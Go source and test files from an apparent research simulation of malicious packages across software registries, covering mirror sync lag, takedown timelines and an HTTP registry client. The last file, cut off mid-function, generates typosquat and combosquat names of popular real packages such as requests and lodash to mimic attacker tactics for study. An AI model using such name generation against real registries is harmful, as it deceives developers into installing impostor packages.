	}
	if err := r.Publish(art("x", "1.0.0"), day(1), true); !errors.Is(err, ErrAlreadyPublished) {
		t.Fatalf("want ErrAlreadyPublished, got %v", err)
	}
}

func TestPublishWrongEcosystem(t *testing.T) {
	r := New("root", ecosys.NPM)
	if err := r.Publish(art("x", "1.0.0"), day(0), true); err == nil {
		t.Fatal("cross-ecosystem publish must fail")
	}
}

func TestRemoveLifecycle(t *testing.T) {
	r := New("root", ecosys.PyPI)
	a := art("x", "1.0.0")
	if err := r.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
	}
	if err := r.Remove(a.Coord, day(2)); err != nil {
		t.Fatal(err)
	}
	if r.LiveAt(a.Coord, day(3)) {
		t.Fatal("package live after removal")
	}
	if !r.LiveAt(a.Coord, day(1)) {
		t.Fatal("package not live before removal")
	}
	if _, err := r.Fetch(a.Coord, day(3)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("post-removal fetch: %v", err)
	}
	// Metadata survives removal (used for Fig. 7 timeline of missing pkgs).
	rel, ok := r.Release(a.Coord)
	if !ok || !rel.Removed() {
		t.Fatal("release metadata lost after removal")
	}
	if err := r.Remove(a.Coord, day(4)); !errors.Is(err, ErrAlreadyRemoved) {
		t.Fatalf("double remove: %v", err)
	}
	if err := r.Remove(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "none", Version: "1"}, day(1)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("remove missing: %v", err)
	}
}

func TestRemoveBeforeRelease(t *testing.T) {
	r := New("root", ecosys.PyPI)
	a := art("x", "1.0.0")
	if err := r.Publish(a, day(5), true); err != nil {
		t.Fatal(err)
	}
	if err := r.Remove(a.Coord, day(1)); err == nil {
		t.Fatal("removal before release must fail")
	}
}

func TestLedgerOrderAndState(t *testing.T) {
	r := New("root", ecosys.PyPI)
	for i := 0; i < 5; i++ {
		if err := r.Publish(art("p", "1.0."+string(rune('0'+i))), day(i), i%2 == 0); err != nil {
			t.Fatal(err)
		}
	}
	_ = r.Remove(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "p", Version: "1.0.0"}, day(9))
	ledger := r.Ledger()
	if len(ledger) != 5 {
		t.Fatalf("ledger size %d", len(ledger))
	}
	for i := 1; i < len(ledger); i++ {
		if ledger[i].ReleasedAt.Before(ledger[i-1].ReleasedAt) {
			t.Fatal("ledger out of publish order")
		}
	}
	if !ledger[0].Removed() {
		t.Fatal("ledger must reflect current takedown state")
	}
}

func TestMirrorSnapshotLag(t *testing.T) {
	root := New("root", ecosys.PyPI)
	a := art("x", "1.0.0")
	if err := root.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
	}
	// Mirror syncs every 7 days starting day 0.
	m, err := NewMirror("m1", root, SyncSnapshot, day(0), 7*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	// Root removes the package on day 8 (after the day-7 sync captured it).
	if err := root.Remove(a.Coord, day(8)); err != nil {
		t.Fatal(err)
	}
	// Day 9: root no longer has it, but mirror's last sync (day 7) saw it
	// live — the §II-B recovery window.
	if root.LiveAt(a.Coord, day(9)) {
		t.Fatal("root should have removed it")
	}
	if !m.Has(a.Coord, day(9)) {
		t.Fatal("mirror should lag and still hold the package")
	}
	// Day 14+: next sync replicates the removal.
	if m.Has(a.Coord, day(15)) {
		t.Fatal("snapshot mirror must drop removed package after next sync")
	}
}

func TestMirrorMissesShortLivedPackage(t *testing.T) {
	root := New("root", ecosys.PyPI)
	a := art("flash", "1.0.0")
	// Released day 1, removed day 2 — between the day-0 and day-7 syncs.
	if err := root.Publish(a, day(1), true); err != nil {
		t.Fatal(err)
	}
	if err := root.Remove(a.Coord, day(2)); err != nil {
		t.Fatal(err)
	}
	for _, mode := range []SyncMode{SyncSnapshot, SyncAccumulate} {
		m, err := NewMirror("m", root, mode, day(0), 7*24*time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		if m.Has(a.Coord, day(30)) {
			t.Fatalf("mode %d: mirror can never have seen a package whose life fit inside the sync gap (Fig. 8 cause 2)", mode)
		}
	}
}

func TestAccumulateMirrorKeepsForever(t *testing.T) {
	root := New("root", ecosys.PyPI)
	a := art("keep", "1.0.0")
	if err := root.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
	}
	if err := root.Remove(a.Coord, day(10)); err != nil {
		t.Fatal(err)
	}
	m, err := NewMirror("arch", root, SyncAccumulate, day(0), 7*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if !m.Has(a.Coord, day(1000)) {
		t.Fatal("accumulate mirror must retain once-seen packages")
	}
	got, err := m.Fetch(a.Coord, day(1000))
	if err != nil || got.Hash() != a.Hash() {
		t.Fatalf("accumulate fetch: %v", err)
	}
}

func TestMirrorBeforeEpoch(t *testing.T) {
	root := New("root", ecosys.PyPI)
	m, err := NewMirror("m", root, SyncSnapshot, day(10), 24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := m.LastSync(day(5)); ok {
		t.Fatal("no sync can exist before the epoch")
	}
	if m.Has(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "x", Version: "1"}, day(5)) {
		t.Fatal("mirror before epoch must be empty")
	}
}

func TestMirrorRejectsBadPeriod(t *testing.T) {
	root := New("root", ecosys.PyPI)
	if _, err := NewMirror("m", root, SyncSnapshot, day(0), 0); err == nil {
		t.Fatal("zero period must be rejected")
	}
}

func TestMirrorSubsetOfRootHistory(t *testing.T) {
	// Property: a mirror never holds a coordinate the root never published,
	// and everything it serves hashes identically to the root's archive.
	root := New("root", ecosys.PyPI)
	m, err := NewMirror("m", root, SyncAccumulate, day(0), 3*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	f := func(rel uint8, life uint8, query uint8) bool {
		name := "p" + time.Now().Format("150405.000000000") // unique per call
		a := art(name, "1.0.0")
		releasedAt := day(int(rel % 40))
		if err := root.Publish(a, releasedAt, true); err != nil {
			return false
		}
		if life%5 != 0 { // most packages get removed
			if err := root.Remove(a.Coord, releasedAt.AddDate(0, 0, int(life%30)+1)); err != nil {
				return false
			}
		}
		q := day(int(query) % 200)
		if m.Has(a.Coord, q) {
			got, err := m.Fetch(a.Coord, q)
			if err != nil || got.Hash() != a.Hash() {
				return false
			}
		}
		// Unknown coordinate is never present.
		return !m.Has(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name + "-ghost", Version: "9"}, q)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

func TestFleetRecoverPrefersRootThenMirrors(t *testing.T) {
	root := New("pypi-root", ecosys.PyPI)
	fleet := NewFleet()
	fleet.AddRoot(root)
	m, err := NewMirror("tuna", root, SyncSnapshot, day(0), 7*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	fleet.AddMirror(m)

	a := art("x", "1.0.0")
	if err := root.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
	}
	// While live: recovered from root.
	_, from, err := fleet.Recover(a.Coord, day(1))
	if err != nil || from != "pypi-root" {
		t.Fatalf("recover live: from=%q err=%v", from, err)
	}
	// Removed day 8, queried day 9: recovered from mirror.
	if err := root.Remove(a.Coord, day(8)); err != nil {
		t.Fatal(err)
	}
	_, from, err = fleet.Recover(a.Coord, day(9))
	if err != nil || from != "tuna" {
		t.Fatalf("recover via mirror: from=%q err=%v", from, err)
	}
	// Day 20: mirror synced the removal; nothing has it.
	if _, _, err := fleet.Recover(a.Coord, day(20)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("recover after full sync: %v", err)
	}
}

func TestFleetUnknownEcosystem(t *testing.T) {
	fleet := NewFleet()
	if _, _, err := fleet.Recover(ecosys.Coord{Ecosystem: ecosys.Rust, Name: "x", Version: "1"}, day(0)); err == nil {
		t.Fatal("unknown ecosystem must not recover")
	}
}

func TestFleetRootsSorted(t *testing.T) {
	fleet := NewFleet()
	fleet.AddRoot(New("npm", ecosys.NPM))
	fleet.AddRoot(New("pypi", ecosys.PyPI))
	roots := fleet.Roots()
	if len(roots) != 2 || roots[0].Ecosystem() != ecosys.PyPI {
		t.Fatalf("roots order wrong: %v", roots)
	}
}

func TestFormatSyncPeriod(t *testing.T) {
	if got := FormatSyncPeriod(7 * 24 * time.Hour); got != "7d" {
		t.Fatalf("FormatSyncPeriod = %q", got)
	}
	if got := FormatSyncPeriod(90 * time.Minute); got != "1h30m0s" {
		t.Fatalf("FormatSyncPeriod = %q", got)
	}
}
