package registry

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"malgraph/internal/ecosys"
)

func newHTTPFixture(t *testing.T) (*Registry, *httptest.Server) {
	t.Helper()
	root := New("pypi-root", ecosys.PyPI)
	a := art("remote-pkg", "2.0.0")
	if err := root.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(NewServer(root))
	t.Cleanup(srv.Close)
	return root, srv
}

func TestHTTPInfoAndFetch(t *testing.T) {
	_, srv := newHTTPFixture(t)
	client, err := NewClient(srv.URL, srv.Client())
	if err != nil {
		t.Fatal(err)
	}
	if client.Name() != "pypi-root" || client.Ecosystem() != ecosys.PyPI {
		t.Fatalf("client identity: %s/%s", client.Name(), client.Ecosystem())
	}
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "remote-pkg", Version: "2.0.0"}
	got, err := client.Fetch(coord, day(1))
	if err != nil {
		t.Fatal(err)
	}
	if got.Coord.Name != "remote-pkg" || len(got.Files) == 0 {
		t.Fatalf("remote artifact corrupted: %+v", got)
	}
}

func TestHTTPFetchRespectsTakedown(t *testing.T) {
	root, srv := newHTTPFixture(t)
	client, err := NewClient(srv.URL, srv.Client())
	if err != nil {
		t.Fatal(err)
	}
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "remote-pkg", Version: "2.0.0"}
	if err := root.Remove(coord, day(3)); err != nil {
		t.Fatal(err)
	}
	if _, err := client.Fetch(coord, day(4)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("post-removal remote fetch: %v", err)
	}
	// Time-travel query before removal still succeeds (ledger semantics).
	if _, err := client.Fetch(coord, day(1)); err != nil {
		t.Fatalf("historical remote fetch: %v", err)
	}
}

func TestHTTPNotFound(t *testing.T) {
	_, srv := newHTTPFixture(t)
	client, err := NewClient(srv.URL, srv.Client())
	if err != nil {
		t.Fatal(err)
	}
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "ghost", Version: "0"}
	if _, err := client.Fetch(coord, day(1)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("want ErrNotFound, got %v", err)
	}
}

func TestHTTPBadTimeParam(t *testing.T) {
	_, srv := newHTTPFixture(t)
	resp, err := http.Get(srv.URL + "/api/v1/package?name=x&version=1&t=not-a-time")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("status = %d", resp.StatusCode)
	}
}

func TestHTTPReleaseEndpoint(t *testing.T) {
	_, srv := newHTTPFixture(t)
	resp, err := http.Get(srv.URL + "/api/v1/release?name=remote-pkg&version=2.0.0")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("release status = %d", resp.StatusCode)
	}
	resp2, err := http.Get(srv.URL + "/api/v1/release?name=ghost&version=0")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if resp2.StatusCode != http.StatusNotFound {
		t.Fatalf("missing release status = %d", resp2.StatusCode)
	}
}

func TestHTTPMirrorEndpoint(t *testing.T) {
	root := New("pypi-root", ecosys.PyPI)
	a := art("mirror-pkg", "1.0.0")
	if err := root.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
	}
	m, err := NewMirror("tuna", root, SyncSnapshot, day(0), 7*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(NewServer(m))
	defer srv.Close()

	client, err := NewClient(srv.URL, srv.Client())
	if err != nil {
		t.Fatal(err)
	}
	if client.Name() != "tuna" {
		t.Fatalf("mirror client name = %q", client.Name())
	}
	// Remove from root on day 8; mirror (synced day 7) still serves on day 9.
	if err := root.Remove(a.Coord, day(8)); err != nil {
		t.Fatal(err)
	}
	if _, err := client.Fetch(a.Coord, day(9)); err != nil {
		t.Fatalf("mirror should still serve removed package: %v", err)
	}
	// Release endpoint is a root-only feature.
	resp, err := http.Get(srv.URL + "/api/v1/release?name=mirror-pkg&version=1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusNotImplemented {
		t.Fatalf("mirror release status = %d", resp.StatusCode)
	}
}

func TestClientAgainstDeadServer(t *testing.T) {
	if _, err := NewClient("http://127.0.0.1:1", &http.Client{Timeout: 200 * time.Millisecond}); err == nil {
		t.Fatal("client must fail against dead server")
	}
}
