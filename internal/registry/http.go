package registry

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/retry"
)

// Server exposes a registry-like endpoint (root or mirror) over HTTP so the
// collection pipeline can exercise real network fetches. The wire protocol:
//
//	GET /api/v1/package?name=N&version=V&t=RFC3339  -> artifact JSON or 404
//	GET /api/v1/release?name=N&version=V            -> release JSON or 404
//	GET /api/v1/info                                -> {name, ecosystem}
type Server struct {
	endpoint Endpoint
	mux      *http.ServeMux
}

// Endpoint abstracts what Server serves: both *Registry and *Mirror satisfy
// it (registries additionally expose release metadata).
type Endpoint interface {
	Name() string
	Ecosystem() ecosys.Ecosystem
	Fetch(coord ecosys.Coord, t time.Time) (*ecosys.Artifact, error)
}

var (
	_ Endpoint = (*Registry)(nil)
	_ Endpoint = (*Mirror)(nil)
)

// NewServer wraps an endpoint in an HTTP handler.
func NewServer(e Endpoint) *Server {
	s := &Server{endpoint: e, mux: http.NewServeMux()}
	s.mux.HandleFunc("/api/v1/package", s.handlePackage)
	s.mux.HandleFunc("/api/v1/release", s.handleRelease)
	s.mux.HandleFunc("/api/v1/info", s.handleInfo)
	return s
}

var _ http.Handler = (*Server)(nil)

// ServeHTTP implements http.Handler.
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) { s.mux.ServeHTTP(w, r) }

func (s *Server) coordFromQuery(q url.Values) ecosys.Coord {
	return ecosys.Coord{
		Ecosystem: s.endpoint.Ecosystem(),
		Name:      q.Get("name"),
		Version:   q.Get("version"),
	}
}

func parseTime(q url.Values) (time.Time, error) {
	raw := q.Get("t")
	if raw == "" {
		return time.Now().UTC(), nil
	}
	return time.Parse(time.RFC3339, raw)
}

func (s *Server) handlePackage(w http.ResponseWriter, r *http.Request) {
	t, err := parseTime(r.URL.Query())
	if err != nil {
		http.Error(w, "bad t parameter: "+err.Error(), http.StatusBadRequest)
		return
	}
	coord := s.coordFromQuery(r.URL.Query())
	art, err := s.endpoint.Fetch(coord, t)
	if err != nil {
		if errors.Is(err, ErrNotFound) {
			http.Error(w, err.Error(), http.StatusNotFound)
			return
		}
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	writeJSON(w, art)
}

func (s *Server) handleRelease(w http.ResponseWriter, r *http.Request) {
	reg, ok := s.endpoint.(*Registry)
	if !ok {
		http.Error(w, "release metadata only served by root registries", http.StatusNotImplemented)
		return
	}
	coord := s.coordFromQuery(r.URL.Query())
	rel, ok := reg.Release(coord)
	if !ok {
		http.Error(w, "unknown coordinate", http.StatusNotFound)
		return
	}
	writeJSON(w, rel)
}

func (s *Server) handleInfo(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, map[string]string{
		"name":      s.endpoint.Name(),
		"ecosystem": s.endpoint.Ecosystem().String(),
	})
}

func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	if err := json.NewEncoder(w).Encode(v); err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

// Client fetches packages from a remote registry Server. Every request
// carries a context deadline — a hung mirror times out instead of stalling
// an ingest forever — and transport errors and 5xx answers are retried
// with bounded exponential backoff. Definitive answers (200, 404) are
// never retried, so the ErrNotFound takedown signal stays exact.
type Client struct {
	base    string
	http    *http.Client
	eco     ecosys.Ecosystem
	name    string
	timeout time.Duration
	retry   retry.Policy
}

// ClientOption tunes a Client at construction.
type ClientOption func(*Client)

// WithTimeout sets the per-request deadline (default 30s).
func WithTimeout(d time.Duration) ClientOption {
	return func(c *Client) { c.timeout = d }
}

// WithRetry replaces the backoff policy (default retry.Default()).
func WithRetry(p retry.Policy) ClientOption {
	return func(c *Client) { c.retry = p }
}

// NewClient connects to a registry server at baseURL and reads its identity.
func NewClient(baseURL string, hc *http.Client, opts ...ClientOption) (*Client, error) {
	if hc == nil {
		hc = http.DefaultClient
	}
	c := &Client{base: baseURL, http: hc, timeout: 30 * time.Second, retry: retry.Default()}
	for _, opt := range opts {
		opt(c)
	}
	var info struct {
		Name      string `json:"name"`
		Ecosystem string `json:"ecosystem"`
	}
	if status, err := c.getJSON("/api/v1/info", nil, &info); err != nil {
		return nil, fmt.Errorf("registry client info: %w", err)
	} else if status != http.StatusOK {
		return nil, fmt.Errorf("registry client info: status %d", status)
	}
	c.name = info.Name
	for _, e := range ecosys.All() {
		if e.String() == info.Ecosystem {
			c.eco = e
			break
		}
	}
	if c.eco == 0 {
		return nil, fmt.Errorf("registry client: unknown ecosystem %q", info.Ecosystem)
	}
	return c, nil
}

// getJSON issues one GET under the client's deadline/backoff policy and,
// on 200, decodes the body into v. The final status is returned for the
// caller to map (404 → ErrNotFound stays the caller's decision); a non-nil
// error means no definitive answer arrived even after retries.
func (c *Client) getJSON(path string, q url.Values, v any) (int, error) {
	u := c.base + path
	if len(q) > 0 {
		u += "?" + q.Encode()
	}
	status := 0
	err := c.retry.Do(context.Background(), func(ctx context.Context) error {
		if c.timeout > 0 {
			var cancel context.CancelFunc
			ctx, cancel = context.WithTimeout(ctx, c.timeout)
			defer cancel()
		}
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
		if err != nil {
			return err
		}
		resp, err := c.http.Do(req)
		if err != nil {
			return retry.Mark(err)
		}
		defer resp.Body.Close()
		if resp.StatusCode >= 500 || resp.StatusCode == http.StatusTooManyRequests {
			// Transient server-side failure or deliberate shed: drain and
			// retry, honouring the server's Retry-After hint when present
			// (capped at the policy's MaxDelay). A 429 burns the throttle
			// budget, not the failure budget — a shedding registry is
			// healthy, just busy.
			_, _ = io.Copy(io.Discard, resp.Body)
			hint, _ := retry.ParseRetryAfter(resp.Header.Get("Retry-After"))
			serr := fmt.Errorf("status %d", resp.StatusCode)
			if resp.StatusCode == http.StatusTooManyRequests {
				return retry.MarkThrottled(serr, hint)
			}
			return retry.MarkAfter(serr, hint)
		}
		status = resp.StatusCode
		if status == http.StatusOK && v != nil {
			if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
				return fmt.Errorf("decode: %w", err)
			}
		}
		return nil
	})
	return status, err
}

// Name returns the remote endpoint's name.
func (c *Client) Name() string { return c.name }

// Ecosystem returns the remote endpoint's ecosystem.
func (c *Client) Ecosystem() ecosys.Ecosystem { return c.eco }

// Fetch retrieves an artifact as of time t. A 404 is the registry's
// definitive takedown answer (ErrNotFound); transport failures and 5xx
// responses surface as plain errors after the retry budget is spent, so
// callers never mistake an outage for a removal.
func (c *Client) Fetch(coord ecosys.Coord, t time.Time) (*ecosys.Artifact, error) {
	q := url.Values{}
	q.Set("name", coord.Name)
	q.Set("version", coord.Version)
	q.Set("t", t.UTC().Format(time.RFC3339))
	var art ecosys.Artifact
	status, err := c.getJSON("/api/v1/package", q, &art)
	if err != nil {
		return nil, fmt.Errorf("registry client fetch: %w", err)
	}
	switch status {
	case http.StatusOK:
		return &art, nil
	case http.StatusNotFound:
		return nil, fmt.Errorf("%w: %s (remote %s)", ErrNotFound, coord, c.name)
	default:
		return nil, fmt.Errorf("registry client fetch: status %d", status)
	}
}

var _ Endpoint = (*Client)(nil)

// FormatSyncPeriod renders a mirror sync period compactly for logs.
func FormatSyncPeriod(d time.Duration) string {
	if d%(24*time.Hour) == 0 {
		return strconv.Itoa(int(d/(24*time.Hour))) + "d"
	}
	return d.String()
}
