package ecosys

import (
	"strings"
	"testing"
	"testing/quick"
	"time"

	"malgraph/internal/xrand"
)

func TestEcosystemString(t *testing.T) {
	cases := map[Ecosystem]string{
		PyPI:     "PyPI",
		NPM:      "NPM",
		RubyGems: "RubyGems",
		Rust:     "Rust",
	}
	for eco, want := range cases {
		if got := eco.String(); got != want {
			t.Errorf("String(%d) = %q, want %q", int(eco), got, want)
		}
	}
	if got := Ecosystem(99).String(); got != "Ecosystem(99)" {
		t.Errorf("unknown ecosystem String = %q", got)
	}
}

func TestAllCoversTenEcosystems(t *testing.T) {
	if got := len(All()); got != 10 {
		t.Fatalf("paper covers 10 ecosystems, All() has %d", got)
	}
	seen := map[Ecosystem]bool{}
	for _, e := range All() {
		if seen[e] {
			t.Fatalf("duplicate ecosystem %v", e)
		}
		seen[e] = true
	}
}

func TestSourceExtAndManifest(t *testing.T) {
	if PyPI.SourceExt() != "py" || NPM.SourceExt() != "js" || RubyGems.SourceExt() != "rb" {
		t.Fatal("big-3 source extensions wrong")
	}
	if PyPI.ManifestName() != "requirements.txt" {
		t.Fatalf("PyPI manifest = %s", PyPI.ManifestName())
	}
	if NPM.ManifestName() != "package.json" {
		t.Fatalf("NPM manifest = %s", NPM.ManifestName())
	}
	if RubyGems.ManifestName() != "package.gemspec" {
		t.Fatalf("RubyGems manifest = %s", RubyGems.ManifestName())
	}
}

func TestCoordString(t *testing.T) {
	c := Coord{Ecosystem: PyPI, Name: "urllib", Version: "1.0.0"}
	if c.String() != "PyPI/urllib@1.0.0" {
		t.Fatalf("Coord.String = %q", c.String())
	}
	if c.Key() != c.String() {
		t.Fatal("Key must equal String")
	}
}

func sampleArtifact() *Artifact {
	return NewArtifact(
		Coord{Ecosystem: PyPI, Name: "acookie", Version: "1.0.0"},
		"a cookie helper",
		[]File{
			{Path: "setup.py", Content: "import os\n"},
			{Path: "acookie/main.py", Content: "print('hi')\n"},
			{Path: "README.md", Content: "docs"},
			{Path: "requirements.txt", Content: "urllib\n"},
		},
	)
}

func TestArtifactFilesSorted(t *testing.T) {
	a := sampleArtifact()
	for i := 1; i < len(a.Files); i++ {
		if a.Files[i-1].Path >= a.Files[i].Path {
			t.Fatalf("files not sorted: %q >= %q", a.Files[i-1].Path, a.Files[i].Path)
		}
	}
}

func TestArtifactHashStableAndContentSensitive(t *testing.T) {
	a := sampleArtifact()
	b := sampleArtifact()
	if a.Hash() != b.Hash() {
		t.Fatal("identical artifacts must hash equal")
	}
	c := sampleArtifact()
	c.Files[0].Content += "x"
	c.hash = ""
	if c.Hash() == a.Hash() {
		t.Fatal("content change must change hash")
	}
}

func TestArtifactHashOrderIndependent(t *testing.T) {
	files := []File{{Path: "a.py", Content: "1"}, {Path: "b.py", Content: "2"}}
	rev := []File{files[1], files[0]}
	a := NewArtifact(Coord{Ecosystem: PyPI, Name: "x", Version: "1"}, "", files)
	b := NewArtifact(Coord{Ecosystem: PyPI, Name: "x", Version: "1"}, "", rev)
	if a.Hash() != b.Hash() {
		t.Fatal("hash must be independent of input file order")
	}
}

func TestArtifactHashNoFramingCollision(t *testing.T) {
	// "ab"+"c" vs "a"+"bc" must hash differently thanks to length framing.
	a := NewArtifact(Coord{}, "", []File{{Path: "p", Content: "abc"}})
	b := NewArtifact(Coord{}, "", []File{{Path: "pa", Content: "bc"}})
	if a.Hash() == b.Hash() {
		t.Fatal("framing collision")
	}
}

func TestSourceFilesFilter(t *testing.T) {
	a := sampleArtifact()
	src := a.SourceFiles()
	if len(src) != 2 {
		t.Fatalf("want 2 source files, got %d", len(src))
	}
	for _, f := range src {
		if !IsSourcePath(f.Path) {
			t.Fatalf("non-source file %q returned", f.Path)
		}
	}
}

func TestManifestLookup(t *testing.T) {
	a := sampleArtifact()
	m, ok := a.Manifest()
	if !ok || m.Path != "requirements.txt" {
		t.Fatalf("manifest lookup failed: %v %v", m, ok)
	}
	noManifest := NewArtifact(Coord{Ecosystem: NPM, Name: "x", Version: "1"}, "", nil)
	if _, ok := noManifest.Manifest(); ok {
		t.Fatal("expected no manifest")
	}
}

func TestMergedSourceOrder(t *testing.T) {
	a := sampleArtifact()
	merged := a.MergedSource()
	iMain := strings.Index(merged, "print")
	iSetup := strings.Index(merged, "import os")
	if iMain == -1 || iSetup == -1 || iMain > iSetup {
		t.Fatalf("merged source not in path order: %q", merged)
	}
}

func TestCloneIsDeep(t *testing.T) {
	a := sampleArtifact()
	c := a.Clone()
	c.Files[0].Content = "mutated"
	if a.Files[0].Content == "mutated" {
		t.Fatal("Clone must not share file backing array")
	}
}

func TestReleaseLifecycle(t *testing.T) {
	rel := Release{
		Coord:      Coord{Ecosystem: NPM, Name: "x", Version: "1.0.0"},
		ReleasedAt: time.Date(2023, 2, 1, 0, 0, 0, 0, time.UTC),
	}
	if rel.Removed() {
		t.Fatal("zero RemovedAt must mean not removed")
	}
	horizon := time.Date(2023, 2, 11, 0, 0, 0, 0, time.UTC)
	if got := rel.PersistedFor(horizon); got != 10*24*time.Hour {
		t.Fatalf("PersistedFor(horizon) = %v", got)
	}
	rel.RemovedAt = rel.ReleasedAt.Add(48 * time.Hour)
	if !rel.Removed() {
		t.Fatal("expected removed")
	}
	if got := rel.PersistedFor(horizon); got != 48*time.Hour {
		t.Fatalf("PersistedFor after removal = %v", got)
	}
}

func TestNameForgeUniqueness(t *testing.T) {
	f := NewNameForge(xrand.New(1))
	seen := map[string]bool{}
	for i := 0; i < 500; i++ {
		var name string
		switch i % 3 {
		case 0:
			name = f.Squat(PyPI)
		case 1:
			name = f.Fresh()
		default:
			name = f.CommonWord()
		}
		if seen[name] {
			t.Fatalf("duplicate name %q", name)
		}
		seen[name] = true
	}
}

func TestClaimExact(t *testing.T) {
	f := NewNameForge(xrand.New(2))
	if !f.ClaimExact("urllib") {
		t.Fatal("first claim should succeed")
	}
	if f.ClaimExact("urllib") {
		t.Fatal("second claim should fail")
	}
}

func TestVersionFormat(t *testing.T) {
	rng := xrand.New(3)
	for i := 0; i < 200; i++ {
		v := Version(rng)
		base, _, _ := strings.Cut(v, "-")
		if parts := strings.Split(base, "."); len(parts) != 3 {
			t.Fatalf("bad version %q", v)
		}
	}
}

func TestBumpVersion(t *testing.T) {
	cases := map[string]string{
		"1.2.3":        "1.2.4",
		"0.0.9":        "0.0.10",
		"1.2.3-beta.1": "1.2.4-beta.1",
		"weird":        "weird.1",
	}
	for in, want := range cases {
		if got := BumpVersion(in); got != want {
			t.Errorf("BumpVersion(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestBumpVersionAlwaysChanges(t *testing.T) {
	rng := xrand.New(4)
	f := func(_ uint8) bool {
		v := Version(rng)
		return BumpVersion(v) != v
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestIsSourcePath(t *testing.T) {
	cases := map[string]bool{
		"a.py": true, "b.js": true, "c.rb": true,
		"README.md": false, "package.json": false, "x.pyc": false,
	}
	for path, want := range cases {
		if got := IsSourcePath(path); got != want {
			t.Errorf("IsSourcePath(%q) = %v", path, got)
		}
	}
}

func TestSquatNeverEqualsLegitimateName(t *testing.T) {
	f := NewNameForge(xrand.New(77))
	for _, eco := range Big3() {
		bases := map[string]bool{}
		for _, b := range PopularTargets[eco] {
			bases[b] = true
		}
		for i := 0; i < 2000; i++ {
			if name := f.Squat(eco); bases[name] {
				t.Fatalf("%v: squat produced the legitimate name %q", eco, name)
			}
		}
	}
}
