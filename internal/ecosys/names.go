package ecosys

import (
	"strconv"
	"strings"

	"malgraph/internal/xrand"
)

// NameForge generates package names that imitate the social-engineering
// tactics described in §II-A: typosquatting (edit-distance-1 variants of
// popular names), combosquatting (popular name + plausible suffix), and
// common-word names ("util", "common") used by dependent-hidden attacks
// (§V-C observation 1).
type NameForge struct {
	rng  *xrand.RNG
	used map[string]bool
}

// NewNameForge returns a forge drawing from the given stream. Names are
// globally unique per forge, mirroring registries' name-reuse ban after a
// takedown (§III-B: "the same name cannot be reused").
func NewNameForge(rng *xrand.RNG) *NameForge {
	return &NameForge{rng: rng, used: make(map[string]bool)}
}

// PopularTargets lists legitimate, widely-installed packages per ecosystem
// whose reputations the attacks piggyback on.
var PopularTargets = map[Ecosystem][]string{
	PyPI:     {"urllib3", "requests", "colorama", "numpy", "django", "flask", "pillow", "cryptography", "pytest", "selenium"},
	NPM:      {"lodash", "express", "react", "axios", "moment", "webpack", "eslint", "chalk", "commander", "debug"},
	RubyGems: {"rails", "rake", "rack", "rest-client", "nokogiri", "puma", "sinatra", "devise", "rspec", "bootstrap-sass"},
}

// CommonWords are generic developer-tooling words attackers use as
// dependency-package names (Table VIII: util, icons, common, settings...).
var CommonWords = []string{
	"util", "utils", "icons", "common", "settings", "config", "core", "tools",
	"helper", "loader", "logger", "parser", "client", "server", "cache",
	"values", "public", "connection", "request", "response", "runner",
}

// Squat returns a fresh typosquat or combosquat of a popular package in eco.
func (f *NameForge) Squat(eco Ecosystem) string {
	targets := PopularTargets[eco]
	if len(targets) == 0 {
		targets = PopularTargets[NPM]
	}
	for attempt := 0; ; attempt++ {
		base := xrand.Pick(f.rng, targets)
		var name string
		if f.rng.Bool(0.5) {
			name = f.typo(base)
		} else {
			name = f.combo(base)
		}
		if name == base {
			// A squat can never equal the legitimate name: the registry
			// already has it.
			name = base + "x"
		}
		if attempt > 20 {
			name = name + "-" + strconv.Itoa(f.rng.Intn(10000))
		}
		if f.claim(name) {
			return name
		}
	}
}

// Fresh returns a fresh plausible-sounding package name with no squat intent.
func (f *NameForge) Fresh() string {
